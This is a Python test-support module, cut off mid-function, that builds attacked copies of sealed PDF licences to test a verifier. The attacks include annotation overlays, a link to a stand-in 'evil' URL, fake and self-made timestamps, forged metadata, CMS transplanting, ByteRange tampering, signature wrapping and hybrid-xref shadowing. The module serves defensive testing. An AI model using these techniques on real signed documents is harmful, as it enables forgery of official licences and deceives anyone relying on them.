"""Attack-suite builders for issue 12: each attack class built from a genuine licence. No tests here.

Every builder takes the bytes of a genuine sealed licence (or a `Licence` / `DevPki` from
test_verification_support when it must sign something) and returns attacked bytes. Everything is made
programmatically, with pyHanko's low-level writer or by raw byte surgery (hand-built objects and
cross-reference sections); no third-party attack file is copied in.

Coordinates on page 1 come from onestop.licences.render: the holder row's value is drawn from x=190 at
baseline y=638 (HOLDER_BOX), the QR code is a 118 pt square at (72, 137) (QR_BOX).

`renders_same` is the rendering cross-check of issue 12 (item 7): page 1 of the sealed revision and of
the whole file rendered with pypdfium2 (PDFium, Chrome's engine) and compared pixel by pixel.
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from typing import Literal

import pypdfium2 as pdfium
from asn1crypto import cms
from asn1crypto import keys as asn1_keys
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
from onestop.licences.pki import DevPki, issue_timestamping_certificate, to_asn1
from onestop.licences.signers import LocalKeySigner
from PIL import Image, ImageChops
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko.sign.timestamps.dummy_client import DummyTimeStamper
from pyhanko.stamp import NoOpStampStyle
from pyhanko_certvalidator.registry import SimpleCertificateStore

from tests.unit import test_verification_support as S

HOLDER_BOX = (186.0, 630.0, 376.0, 654.0)  # over the holder's name (first row of the face)
QR_BOX = (72.0, 137.0, 190.0, 255.0)  # over the QR code
EVIL_URL = "https://verify.example.evil/"

n = generic.NameObject


# ----------------------------------------------------------------------------- rendering cross-check


def render_page(data: bytes, *, scale: float = 1.0) -> Image.Image | None:
    """Page 1 as PDFium draws it (annotations and form widgets included); None when PDFium refuses."""
    try:
        doc = pdfium.PdfDocument(data)
    except pdfium.PdfiumError:
        return None
    try:
        doc.init_forms()
        page = doc[0]
        try:
            return page.render(scale=scale, may_draw_forms=True, draw_annots=True).to_pil().convert("RGB")
        finally:
            page.close()
    except pdfium.PdfiumError:
        return None
    finally:
        doc.close()


def renders_same(data: bytes, sealed_len: int) -> bool:
    """Whether page 1 of the whole file looks exactly like page 1 of the sealed revision data[:sealed_len].

    A file PDFium cannot open counts as rendering differently (nothing can be said to look genuine).
    """
    sealed, whole = render_page(data[:sealed_len]), render_page(data)
    if sealed is None or whole is None:
        return False
    return sealed.size == whole.size and ImageChops.difference(sealed, whole).getbbox() is None


def links_at(data: bytes, x: float, y: float) -> list[str]:
    """The URI of the link PDFium finds at page point (x, y), if any (a link draws nothing)."""
    import pypdfium2.raw as raw

    doc = pdfium.PdfDocument(data)
    page = doc[0]
    try:
        link = raw.FPDFLink_GetLinkAtPoint(page.raw, x, y)
        if not link:
            return []
        action = raw.FPDFLink_GetAction(link)
        size = raw.FPDFAction_GetURIPath(doc.raw, action, None, 0)
        buf = (raw.c_char * size)()
        raw.FPDFAction_GetURIPath(doc.raw, action, buf, size)
        return [bytes(buf).rstrip(b"\0").decode("ascii")]
    finally:
        page.close()
        doc.close()


# ----------------------------------------------------------------------------- low-level writing


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page_ref(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    assert isinstance(ref, generic.IndirectObject)
    return ref


def serialise(obj: generic.PdfObject) -> bytes:
    """A pyHanko object as PDF syntax (indirect references stay references)."""
    out = io.BytesIO()
    obj.write_to_stream(out, None)
    return out.getvalue()


@dataclass(frozen=True)
class _Tail:
    """What an appended revision needs from the last one."""

    root: bytes
    info: bytes
    ids: bytes
    size: int
    startxref: int


def _tail(pdf: bytes) -> _Tail:
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    trailer = reader.trailer_view
    root, info = trailer.raw_get("/Root"), trailer.raw_get("/Info")
    return _Tail(
        root=f"{root.idnum} {root.generation} R".encode(),
        info=f"{info.idnum} {info.generation} R".encode(),
        ids=serialise(trailer["/ID"]),
        size=int(trailer["/Size"]),
        startxref=int(re.findall(rb"startxref\s+(\d+)", pdf)[-1]),
    )


def _xref_table(entries: Mapping[int, int]) -> bytes:
    """A classic cross-reference section (object number → offset), one subsection per run."""
    out = [b"xref\n0 1\n0000000000 65535 f \n"]
    numbers = sorted(entries)
    i = 0
    while i < len(numbers):
        j = i
        while j + 1 < len(numbers) and numbers[j + 1] == numbers[j] + 1:
            j += 1
        out.append(f"{numbers[i]} {j - i + 1}\n".encode())
        out.extend(b"%010d 00000 n \n" % entries[k] for k in numbers[i : j + 1])
        i = j + 1
    return b"".join(out)


def append_update(
    pdf: bytes, objects: Mapping[int, bytes], *, trailer_extra: bytes = b"", size: int | None = None
) -> bytes:
    """Append one incremental update written by hand: `objects` (number → body, generation 0) and a
    classic xref table + trailer (/Size /Root /Info /ID /Prev kept). Fast for tens of thousands of
    objects, and free to write what pyHanko's writer would refuse.
    """
    tail = _tail(pdf)
    body = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets: dict[int, int] = {}
    for num, obj in objects.items():
        offsets[num] = len(body)
        body += b"%d 0 obj\n" % num + obj + b"\nendobj\n"
    xref_at = len(body)
    body += _xref_table(offsets)
    new_size = max([tail.size, *(k + 1 for k in objects)]) if size is None else size
    body += b"trailer\n<< /Size %d /Root %s /Info %s /ID %s /Prev %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        new_size,
        tail.root,
        tail.info,
        tail.ids,
        tail.startxref,
        trailer_extra,
        xref_at,
    )
    return bytes(body)


def parse_xref_table(pdf: bytes, at: int) -> dict[int, int]:
    """The in-use entries (object number → offset) of the classic xref section at offset `at`."""
    end = pdf.index(b"trailer", at)
    lines = pdf[at:end].split(b"\n")[1:]
    out: dict[int, int] = {}
    i = 0
    while i < len(lines):
        head = lines[i].split()
        i += 1
        if len(head) != 2:
            continue
        first, count = int(head[0]), int(head[1])
        for k in range(count):
            offset, _, kind = lines[i + k].split()[:3]
            if kind == b"n":
                out[first + k] = int(offset)
        i += count
    return out


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"


# ----------------------------------------------------------------------------- 1. visible forgeries

Kind = Literal["square", "ink", "link"]
RectStyle = Literal["string", "numeric", "zero_ap"]

# A stroke alphabet (unit box 0.6 x 1) for the ink annotation's text.
_STROKES: dict[str, list[list[tuple[float, float]]]] = {
    "F": [[(0, 0), (0, 1), (0.6, 1)], [(0, 0.5), (0.45, 0.5)]],
    "A": [[(0, 0), (0.3, 1), (0.6, 0)], [(0.15, 0.5), (0.45, 0.5)]],
    "K": [[(0, 0), (0, 1)], [(0.6, 1), (0, 0.45), (0.6, 0)]],
    "E": [[(0.6, 0), (0, 0), (0, 1), (0.6, 1)], [(0, 0.5), (0.45, 0.5)]],
    "C": [[(0.6, 0), (0, 0), (0, 1), (0.6, 1)]],
    "O": [[(0, 0), (0, 1), (0.6, 1), (0.6, 0), (0, 0)]],
    "L": [[(0, 1), (0, 0), (0.6, 0)]],
    "T": [[(0, 1), (0.6, 1)], [(0.3, 1), (0.3, 0)]],
    "D": [[(0, 0), (0, 1), (0.4, 1), (0.6, 0.7), (0.6, 0.3), (0.4, 0), (0, 0)]],
    " ": [],
}


def ink_strokes(text: str, x: float, y: float, height: float) -> list[list[float]]:
    """An /InkList spelling `text` (letters of _STROKES) from (x, y), `height` points tall."""
    strokes: list[list[float]] = []
    for i, ch in enumerate(text):
        ox = x + i * 0.9 * height
        for line in _STROKES[ch]:
            strokes.append([v for px, py in line for v in (ox + px * height, y + py * height)])
    return strokes


def _numbers(values: Iterable[float]) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(v) for v in values])


def _rect(box: tuple[float, float, float, float], style: RectStyle) -> generic.ArrayObject:
    if style == "string":  # `[(186) 630 376 654]`: a string where the first number belongs
        return generic.ArrayObject([generic.pdf_string(f"{box[0]:g}"), *_numbers(box[1:])])
    if style == "zero_ap":
        return _numbers((box[0], box[1], box[0], box[1]))
    return _numbers(box)


def junk_doc_timestamp() -> generic.DictionaryObject:
    """A /V typed /DocTimeStamp with a junk /ByteRange and /Contents (no timestamp token at all)."""
    return generic.DictionaryObject(
        {
            n("/Type"): n("/DocTimeStamp"),
            n("/Filter"): n("/Adobe.PPKLite"),
            n("/SubFilter"): n("/ETSI.RFC3161"),
            n("/ByteRange"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 10, 20, 10)]),
            n("/Contents"): generic.ByteStringObject(b"\0" * 64),
        }
    )


def _appearance(box: tuple[float, float, float, float]) -> generic.StreamObject:
    w, h = box[2] - box[0], box[3] - box[1]
    font = generic.DictionaryObject(
        {n("/Type"): n("/Font"), n("/Subtype"): n("/Type1"), n("/BaseFont"): n("/Helvetica")}
    )
    return generic.StreamObject(
        {
            n("/Type"): n("/XObject"),
            n("/Subtype"): n("/Form"),
            n("/BBox"): _numbers((0, 0, w, h)),
            n("/Resources"): generic.DictionaryObject(
                {n("/Font"): generic.DictionaryObject({n("/Helv"): font})}
            ),
        },
        stream_data=b"1 1 1 rg 0 0 %g %g re f BT 0 g /Helv 14 Tf 4 6 Td (FAKE CO LTD) Tj ET" % (w, h),
    )


def _forged_field(
    writer: IncrementalPdfFileWriter, kind: Kind, style: RectStyle, number: int
) -> generic.DictionaryObject:
    box = QR_BOX if kind == "link" else HOLDER_BOX
    field = generic.DictionaryObject(
        {
            n("/FT"): n("/Sig"),
            n("/T"): generic.pdf_string(f"Timestamp{number}"),
            n("/V"): writer.add_object(junk_doc_timestamp()),
            n("/Type"): n("/Annot"),
            n("/Subtype"): n({"square": "/Square", "ink": "/Ink", "link": "/Link"}[kind]),
            n("/Rect"): _rect(box, style),
            n("/P"): _page_ref(writer),
            n("/F"): generic.NumberObject(4),
        }
    )
    no_border = generic.DictionaryObject({n("/W"): generic.NumberObject(0)})
    if kind == "square":
        field[n("/IC")] = _numbers((1, 1, 1))
        field[n("/C")] = _numbers((1, 1, 1))
        field[n("/CA")] = generic.NumberObject(1)
        field[n("/BS")] = no_border
    elif kind == "ink":
        field[n("/InkList")] = generic.ArrayObject(
            _numbers(s) for s in ink_strokes("FAKE CO LTD", box[0] + 6, box[1] + 4, 14)
        )
        field[n("/C")] = _numbers((0, 0, 0))
        field[n("/BS")] = generic.DictionaryObject({n("/W"): generic.NumberObject(2)})
    else:
        field[n("/A")] = generic.DictionaryObject(
            {n("/S"): n("/URI"), n("/URI"): generic.pdf_string(EVIL_URL)}
        )
        field[n("/Border")] = generic.ArrayObject([generic.NumberObject(0)] * 3)
    if style == "zero_ap":
        field[n("/AP")] = generic.DictionaryObject({n("/N"): writer.add_object(_appearance(box))})
    return field


def visible_forgery(
    pdf: bytes, kinds: Sequence[Kind] = ("square", "ink"), style: RectStyle = "string"
) -> bytes:
    """Issue 12 item 1: one incremental update adding, per kind, a signature field whose /V is a junk
    /DocTimeStamp and which is at the same time a /Square (white box over the holder's name), /Ink
    ("FAKE CO LTD" over it) or /Link (URI to EVIL_URL over the QR code) annotation on page 1.

    style "string": /Rect [(186) 630 376 654] (PDFium reads the string as a number, pyHanko as zero
    area); "numeric": an ordinary non-zero /Rect; "zero_ap": a zero-area numeric /Rect with an /AP
    appearance stream that paints a white box and "FAKE CO LTD".
    """
    writer = _writer(pdf)
    page_ref = _page_ref(writer)
    page = page_ref.get_object()
    form_ref = writer.root.raw_get("/AcroForm")
    form = form_ref.get_object()
    annots = generic.ArrayObject(list(page.get("/Annots") or []))
    fields_ = generic.ArrayObject(list(form.get("/Fields") or []))
    for i, kind in enumerate(kinds):
        ref = writer.add_object(_forged_field(writer, kind, style, i + 1))
        annots.append(ref)
        fields_.append(ref)
    page[n("/Annots")] = annots
    form[n("/Fields")] = fields_
    writer.update_container(page)
    writer.update_container(form)
    return _write(writer)


# ----------------------------------------------------------------------------- 2. document timestamps


@dataclass(frozen=True)
class Tsa:
    """A time-stamping authority: its certificate and RSA key, and the root a verifier would trust."""

    cert: x509.Certificate
    key: rsa.RSAPrivateKey
    root: x509.Certificate

    def stamper(self, at: datetime | None = None) -> DummyTimeStamper:
        key_der = self.key.private_bytes(
            serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
        chain = [self.cert] if self.root == self.cert else [self.cert, self.root]
        return DummyTimeStamper(
            tsa_cert=to_asn1(self.cert),
            tsa_key=asn1_keys.PrivateKeyInfo.load(key_der),
            certs_to_embed=SimpleCertificateStore.from_certs([to_asn1(c) for c in chain]),
            fixed_dt=at,
        )


def bureau_tsa(pki: DevPki) -> Tsa:
    """The genuine TSA: a certificate the bureau root issued (issue_timestamping_certificate)."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    cert = issue_timestamping_certificate(
        root_cert=pki.root_cert,
        root_key=pki.root_key,
        public_key=key.public_key(),
        bureau=pki.bureau,
        now=datetime.now(UTC),
    )
    return Tsa(cert, key, pki.root_cert)


def _self_signed(
    name: x509.Name, key: ec.EllipticCurvePrivateKey, start: datetime, days: int
) -> x509.Certificate:
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(start)
        .not_valid_after(start + timedelta(days=days))
        .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
        .sign(key, hashes.SHA256())
    )


def _org_name(org: str, cn: str) -> x509.Name:
    return x509.Name(
        [
            x509.NameAttribute(NameOID.COUNTRY_NAME, "CN"),
            x509.NameAttribute(NameOID.ORGANIZATION_NAME, org),
            x509.NameAttribute(NameOID.COMMON_NAME, cn),
        ]
    )


def self_made_tsa(*, not_before: datetime | None = None) -> Tsa:
    """An attacker's TSA under its own self-signed root (EKU timeStamping, like a real one).

    `not_before` back-dates both certificates, so a token dated then is inside their validity.
    """
    start = not_before or datetime.now(UTC) - timedelta(days=1)
    root_key = ec.generate_private_key(ec.SECP256R1())
    root = _self_signed(_org_name("Attacker TSA", "Attacker TSA Root"), root_key, start, 365 * 40)
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    cert = (
        x509.CertificateBuilder()
        .subject_name(_org_name("Attacker TSA", "Attacker Time-Stamping"))
        .issuer_name(root.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(start)
        .not_valid_after(start + timedelta(days=365 * 30))
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.TIME_STAMPING]), critical=True)
        .sign(root_key, hashes.SHA256())
    )
    return Tsa(cert, key, root)


def add_timestamp(
    pdf: bytes, tsa: Tsa, *, at: datetime | None = None, field_name: str | None = None
) -> bytes:
    """A genuine RFC 3161 document timestamp (pyHanko PdfTimeStamper) from `tsa`, dated `at` (default:
    now), in an incremental update."""
    stamper = tsa.stamper(at)
    out = io.BytesIO()
    name = field_name or f"Timestamp{pdf.count(b'/DocTimeStamp') + 1}"
    signers.PdfTimeStamper(stamper, field_name=name).timestamp_pdf(_writer(pdf), "sha256", output=out)
    return out.getvalue()


def add_timestamps(pdf: bytes, tsa: Tsa, count: int) -> bytes:
    """`count` genuine document timestamps in a row, one update each."""
    for i in range(count):
        pdf = add_timestamp(pdf, tsa, field_name=f"Timestamp{i + 1}")
    return pdf


class _CmsAsTimestamp(DummyTimeStamper):
    """A "TSA" that answers with an ordinary CMS signature over the digest (no TSTInfo at all)."""

    def __init__(self, tsa: Tsa, signer: signers.Signer) -> None:
        super().__init__(to_asn1(tsa.cert), tsa.stamper().tsa_key)
        self._signer = signer

    async def async_timestamp(self, message_digest: bytes, md_algorithm: str) -> cms.ContentInfo:
        return await self._signer.async_sign(message_digest, md_algorithm)


def cms_as_timestamp(pdf: bytes, signer: signers.Signer) -> bytes:
    """A /DocTimeStamp whose /Contents is the attacker's CMS signature (id-data, signed attributes),
    not a time-stamp token: what a verifier that merely skips /DocTimeStamp fields would never notice."""
    out = io.BytesIO()
    stamper = _CmsAsTimestamp(self_made_tsa(), signer)
    signers.PdfTimeStamper(stamper, field_name="Timestamp1").timestamp_pdf(_writer(pdf), "sha256", output=out)
    return out.getvalue()


def add_validation_data(pdf: bytes, pki: DevPki, tsa: Tsa | None = None) -> bytes:
    """A DSS update (PAdES LT): the seal's chain, and the TSA's when given."""
    from pyhanko.sign.validation.dss import DocumentSecurityStore

    certs = [pki.seal_cert, pki.root_cert] + ([tsa.cert] if tsa else [])
    writer = _writer(pdf)
    DocumentSecurityStore.supply_dss_in_writer(writer, None, certs=[to_asn1(c) for c in certs])
    return _write(writer)


def junk_timestamp_fields(pdf: bytes, count: int) -> bytes:
    """`count` signature fields whose /V is one shared junk /DocTimeStamp, in ONE update written as raw
    bytes with a hand-built xref (21,000 fields in well under a second, under 3 MB). Each field is an
    invisible hidden widget (zero /Rect) listed in /AcroForm /Fields; the AcroForm object is rewritten."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    form_ref = reader.root.raw_get("/AcroForm")
    form = form_ref.get_object()
    value = int(reader.trailer_view["/Size"])
    first = value + 1
    old = b" ".join(serialise(r) for r in form.raw_get("/Fields"))
    refs = b" ".join(b"%d 0 R" % (first + i) for i in range(count))
    rest = b"".join(serialise(k) + b" " + serialise(v) + b" " for k, v in form.items() if k != "/Fields")
    objects: dict[int, bytes] = {
        form_ref.idnum: b"<< " + rest + b"/Fields [" + old + b" " + refs + b"] >>",
        value: serialise(junk_doc_timestamp()),
    }
    for i in range(count):
        objects[first + i] = (
            b"<< /FT /Sig /T (Timestamp%d) /V %d 0 R /Type /Annot /Subtype /Widget /F 6 /Rect [0 0 0 0] >>"
            % (i + 1, value)
        )
    return append_update(pdf, objects)


# ----------------------------------------------------------------------------- 3. metadata after sealing

XMP_TEMPLATE = """<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/">
 <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
  <rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"
    xmlns:pdf="http://ns.adobe.com/pdf/1.3/">
   <dc:title><rdf:Alt><rdf:li xml:lang="x-default">{title}</rdf:li></rdf:Alt></dc:title>
   <dc:creator><rdf:Seq><rdf:li>{creator}</rdf:li></rdf:Seq></dc:creator>
   <dc:description><rdf:Alt><rdf:li xml:lang="x-default">{licence_id}</rdf:li></rdf:Alt></dc:description>
   <pdf:Keywords>{licence_id}</pdf:Keywords>
  </rdf:Description>
 </rdf:RDF>
</x:xmpmeta>
<?xpacket end="w"?>"""


def replace_xmp(
    pdf: bytes,
    *,
    title: str = "成品油零售经营批准证书 440300-29990000001",
    creator: str = "深圳市前海伪造有限公司",
    licence_id: str = "1.2.156.3005.2.11440300MB2D03151D001.11440300MB2D03151D.29990000001.001.X",
) -> bytes:
    """An update replacing the catalog's XMP /Metadata stream (same object number) with one naming
    another title, creator and licence id (raw bytes: pyHanko's writer would regenerate the XMP)."""
    ref = PdfFileReader(io.BytesIO(pdf), strict=False).root.raw_get("/Metadata")
    xmp = XMP_TEMPLATE.format(title=title, creator=creator, licence_id=licence_id).encode("utf-8")
    return append_update(pdf, {ref.idnum: _stream(xmp, b"/Type /Metadata /Subtype /XML ")})


INFO_FORGERIES: dict[str, str] = {
    "/Title": "成品油零售经营批准证书 440300-29990000001",
    "/Author": "深圳市前海伪造有限公司",
    "/Subject": "1.2.156.3005.2.11440300MB2D03151D001.11440300MB2D03151D.29990000001.001.X",
    "/Keywords": "1.2.156.3005.2.11440300MB2D03151D001.11440300MB2D03151D.29990000001.001.X",
    "/Creator": "forgery kit",
    "/Custom": "holder=深圳市前海伪造有限公司",
}


def change_info(pdf: bytes, key: str, value: str | None = None) -> bytes:
    """An update changing (or adding) one /Info key; the value defaults to INFO_FORGERIES[key]."""
    writer = _writer(pdf)
    info = writer.trailer["/Info"].get_object()
    info[n(key)] = generic.TextStringObject(value if value is not None else INFO_FORGERIES[key])
    writer.update_container(info)
    return _write(writer)


# ----------------------------------------------------------------------------- 4. sealed with the TSA cert


def seal_with_tsa_certificate(licence: S.Licence) -> bytes:
    """The licence sealed (certified, like the bureau's seal) with another certificate the bureau root
    issued: its time-stamping certificate (EKU timeStamping, digitalSignature + nonRepudiation)."""
    pki = licence.pki
    key = ec.generate_private_key(ec.SECP256R1())
    cert = issue_timestamping_certificate(
        root_cert=pki.root_cert,
        root_key=pki.root_key,
        public_key=key.public_key(),
        bureau=pki.bureau,
        now=datetime.now(UTC),
    )
    return S.sign(licence.unsigned, LocalKeySigner(cert, key, [pki.root_cert]), box=licence.seal_box)


# ----------------------------------------------------------------------------- 5. the signature itself


def contents_span(pdf: bytes) -> tuple[int, int]:
    """(start, end) of the hex digits of the last signature's /Contents (delimiters excluded)."""
    _, len1, start2, _ = S.byte_range(pdf)
    return len1 + 1, start2 - 1


def der_length(pdf: bytes) -> int:
    """Length in bytes of the DER CMS inside the last /Contents (from its own header, not by stripping)."""
    start, _ = contents_span(pdf)
    head = bytes.fromhex(pdf[start : start + 12].decode("ascii"))
    assert head[0] == 0x30
    if head[1] < 0x80:
        return 2 + head[1]
    size = head[1] & 0x7F
    return 2 + size + int.from_bytes(head[2 : 2 + size], "big")


def _cms(pdf: bytes) -> bytes:
    start, _ = contents_span(pdf)
    return bytes.fromhex(pdf[start : start + 2 * der_length(pdf)].decode("ascii"))


def _put_cms(pdf: bytes, der: bytes) -> bytes:
    start, end = contents_span(pdf)
    digits = der.hex().encode()
    if pdf[start:end].upper() == pdf[start:end]:
        digits = digits.upper()
    assert len(digits) <= end - start
    return pdf[:start] + digits + b"0" * (end - start - len(digits)) + pdf[end:]


def transplant_cms(pdf: bytes, donor: bytes) -> bytes:
    """The /Contents of another genuine licence (`donor`) put into this one, same length, zero-padded."""
    return _put_cms(pdf, _cms(donor))


def zero_signature_value(pdf: bytes) -> bytes:
    """The ECDSA r and s of the seal's SignerInfo replaced by zero bytes of the same DER length (the
    CMS still parses; the signature value is gone)."""
    der = _cms(pdf)
    info = cms.ContentInfo.load(der)["content"]["signer_infos"][0]
    sig = info["signature"].native
    assert sig[0] == 0x30
    assert sig[1] < 0x80
    out = bytearray(sig)
    at = 2
    for _ in range(2):  # r, then s: INTEGER tag, short length, content
        assert out[at] == 0x02
        length = out[at + 1]
        out[at + 2 : at + 2 + length] = bytes(length)
        at += 2 + length
    pos = der.index(sig)
    return _put_cms(pdf, der[:pos] + bytes(out) + der[pos + len(sig) :])


def _set_byte_range(pdf: bytes, values: tuple[int, int, int, int]) -> bytes:
    """Rewrite the last /ByteRange in place, keeping its width (pyHanko pads it with spaces)."""
    match = list(re.finditer(rb"/ByteRange\s*\[[^\]]*\]\s*", pdf))[-1]
    text = b"/ByteRange [%d %d %d %d]" % values
    width = match.end() - match.start()
    assert len(text) < width
    return pdf[: match.start()] + text.ljust(width - 1) + b"\n" + pdf[match.end() :]


def forged_byte_range(pdf: bytes, variant: Literal["short", "gap"] = "short") -> bytes:
    """The /ByteRange rewritten: "short" leaves the last 200 bytes unsigned ([0 a b c-200]); "gap" widens
    the unsigned gap into the signed part ([0 a-100 b c]). Nothing else changes."""
    a, b, c, d = S.byte_range(pdf)
    return _set_byte_range(pdf, (a, b, c, d - 200) if variant == "short" else (a, b - 100, c, d))


def wrap_byte_range(pdf: bytes) -> bytes:
    """PDF-Insecurity signature wrapping (Mladenov et al., 2019): the signed second part is moved.

    Original layout: [0, b) signed | <contents> | [c, c+d) signed, with the /ByteRange itself in the
    second part. Wrapped: the bytes up to the end of the /Contents string stay; then come a rewritten
    rest of the signature dictionary with /ByteRange [0 b c' d], padding, a new xref section placed
    exactly where the original `startxref` points (so the genuine tail's startxref finds it), a forged
    page version and content stream; then the original second part [c, c+d) copied verbatim to c'.
    The bytes named by the new /ByteRange are exactly the originally signed ones, so the CMS verifies;
    what the file shows is the forged page.
    """
    _, b, c, d = S.byte_range(pdf)
    assert c + d == len(pdf)
    startxref = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    assert startxref > c
    endobj = pdf.index(b"endobj", c) + len(b"endobj\n")
    tail = _tail(pdf)
    prev = int(re.findall(rb"/Prev\s+(\d+)", pdf)[-1])
    entries = parse_xref_table(pdf, startxref)
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    forged_num = tail.size
    page_copy = generic.DictionaryObject(dict(page.items()))
    contents = page.raw_get("/Contents")
    page_copy[n("/Contents")] = generic.ArrayObject([contents, generic.IndirectObject(forged_num, 0, reader)])
    # layout of the inserted block G (starts at offset c of the new file)
    head = pdf[c:endobj]
    pad_to = startxref - c
    assert len(head) < pad_to

    def build(c_new: int) -> bytes:
        new_head = re.sub(
            rb"/ByteRange\s*\[[^\]]*\]",
            lambda m: (b"/ByteRange [0 %d %d %d]" % (b, c_new, d)).ljust(len(m.group(0))),
            head,
        )
        assert len(new_head) == len(head)
        xref_len = len(_xref_table({**entries, page_ref.idnum: 0, forged_num: 0}))
        trailer = b"trailer\n<< /Size %d /Root %s /Info %s /ID %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            forged_num + 1,
            tail.root,
            tail.info,
            tail.ids,
            prev,
            startxref,
        )
        objs_at = startxref + xref_len + len(trailer)
        page_obj = b"%d 0 obj\n" % page_ref.idnum + serialise(page_copy) + b"\nendobj\n"
        forged_obj = b"%d 0 obj\n" % forged_num + _stream(S.FORGED_TEXT) + b"\nendobj\n"
        shift = c_new - c
        moved = {k: (v + shift if v >= c else v) for k, v in entries.items()}
        moved[page_ref.idnum] = objs_at
        moved[forged_num] = objs_at + len(page_obj)
        xref = _xref_table(moved)
        assert len(xref) == xref_len
        return new_head + b"\n" * (pad_to - len(head)) + xref + trailer + page_obj + forged_obj

    block = build(c)
    block = build(c + len(block))
    out = pdf[:c] + block + pdf[c:]
    assert out[c + len(block) :] == pdf[c:]
    return out


# ----------------------------------------------------------------------------- 6. cost


def huge_contents_update(pdf: bytes, hex_chars: int = 3_800_000) -> bytes:
    """An update adding a second signature field whose /V is a /Sig dictionary with a /Contents of
    `hex_chars` hex digits (a DER SEQUENCE header, then zeros); the file stays under the 4 MiB limit."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    form_ref = reader.root.raw_get("/AcroForm")
    form = form_ref.get_object()
    num = int(reader.trailer_view["/Size"])
    rest = b"".join(serialise(k) + b" " + serialise(v) + b" " for k, v in form.items() if k != "/Fields")
    old = b" ".join(serialise(r) for r in form.raw_get("/Fields"))
    der_len = hex_chars // 2 - 6
    digits = (b"3084" + der_len.to_bytes(4, "big").hex().encode()).ljust(hex_chars, b"0")
    size = len(pdf) + 200
    sig = (
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /Contents <"
        + digits
        + b"> /ByteRange [0 %d %d %d] >>" % (size, size + hex_chars + 2, 100)
    )
    field = b"<< /FT /Sig /T (Approval) /Type /Annot /Subtype /Widget /F 6 /Rect [0 0 0 0] /V %d 0 R >>" % (
        num + 1
    )
    objects = {
        form_ref.idnum: b"<< " + rest + b"/Fields [" + old + b" %d 0 R] >>" % num,
        num: field,
        num + 1: sig,
    }
    return append_update(pdf, objects)


def seal_with_reservation(
    unsigned: bytes, pki: DevPki, box: tuple[int, int, int, int], hex_chars: int
) -> bytes:
    """The licence sealed as the bureau does but with `hex_chars` hex digits reserved for /Contents
    (pyHanko `bytes_reserved`): a genuine, verifying seal inside a 4.8 MB zero-padded string."""
    meta = signers.PdfSignatureMetadata(
        field_name="BureauSeal",
        md_algorithm="sha256",
        subfilter=fields.SigSeedSubFilter.PADES,
        certify=True,
        docmdp_permissions=fields.MDPPerm.NO_CHANGES,
    )
    pdf_signer = signers.PdfSigner(
        meta,
        signer=LocalKeySigner.from_dev_pki(pki),
        stamp_style=NoOpStampStyle(),
        new_field_spec=fields.SigFieldSpec("BureauSeal", on_page=0, box=box),
    )
    out = io.BytesIO()
    pdf_signer.sign_pdf(_writer(unsigned), bytes_reserved=hex_chars, output=out)
    return out.getvalue()


# ----------------------------------------------------------------------------- 7. reasons


def hybrid_xref_update(pdf: bytes) -> bytes:
    """An update in hybrid form: a classic xref table listing nothing new, and a trailer /XRefStm
    pointing at an xref stream that redefines the page's content stream (genuine content plus a white
    box and "FORGED HOLDER"). Readers that honour /XRefStm (PDFium, Acrobat) show the change; a reader
    of the table alone sees an empty update."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    tail = _tail(pdf)
    content_ref = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents")
    if isinstance(content_ref, generic.ArrayObject):
        content_ref = content_ref[0]
    data = content_ref.get_object().data + b"\n" + S.FORGED_TEXT
    body = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    content_at = len(body)
    body += b"%d 0 obj\n" % content_ref.idnum + _stream(zlib.compress(data), b"/Filter /FlateDecode ")
    body += b"\nendobj\n"
    xs_num = tail.size
    xs_at = len(body)
    rows = b"".join(bytes([1]) + off.to_bytes(4, "big") + bytes(2) for off in (content_at, xs_at))
    body += b"%d 0 obj\n" % xs_num + _stream(
